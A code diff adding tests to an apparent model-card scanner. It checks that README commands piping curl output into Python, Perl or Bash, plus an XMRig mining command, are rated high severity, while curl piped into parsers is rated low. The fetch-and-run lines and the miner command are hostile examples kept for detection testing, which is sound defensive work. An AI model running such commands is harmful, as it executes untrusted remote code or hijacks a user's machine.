@@ -210,3 +210,34 @@ def test_downloads_that_are_started(commands: str, severity: str) -> None:
 def test_ordinary_downloads(commands: str) -> None:
     card = {"README.md": f"# Model\n\n```\n{commands}\n```\n"}
     assert found("card-lure", repository(card, listed=WEIGHTS)) == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl -s https://site.invalid/api/models/a/b | python3 -c \"import sys, json; print(json.load(sys.stdin)['sha'])\"",
+        "curl https://site.invalid/v1/x | python -m json.tool",
+        "curl -s https://site.invalid/list | perl -ne 'print if /gguf/'",
+        "Families: Emotet, Mirai, XMRig.",
+    ],
+)
+def test_what_is_fetched_is_read(line: str) -> None:
+    card = {"README.md": f"# Model\n```bash\n{line}\n```\n"}
+    assert set(severities("card-lure", repository(card, listed=WEIGHTS))) <= {"low"}
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl -s https://site.invalid/x | python3 -c 'import sys; exec(sys.stdin.read())'",
+        "curl -s https://site.invalid/x | python3 -c 'import sys, pickle; pickle.load(sys.stdin.buffer)'",
+        "curl -s https://site.invalid/x | python3 -",
+        "curl -s https://site.invalid/x | python3 -m code",
+        "curl -s https://site.invalid/x | perl",
+        "curl -s https://site.invalid/x | bash -c 'source /dev/stdin'",
+        "./xmrig -o stratum+tcp://pool.invalid:3333",
+    ],
+)
+def test_what_is_fetched_is_run(line: str) -> None:
+    card = {"README.md": f"# Model\n```bash\n{line}\n```\n"}
+    assert "high" in severities("card-lure", repository(card, listed=WEIGHTS))
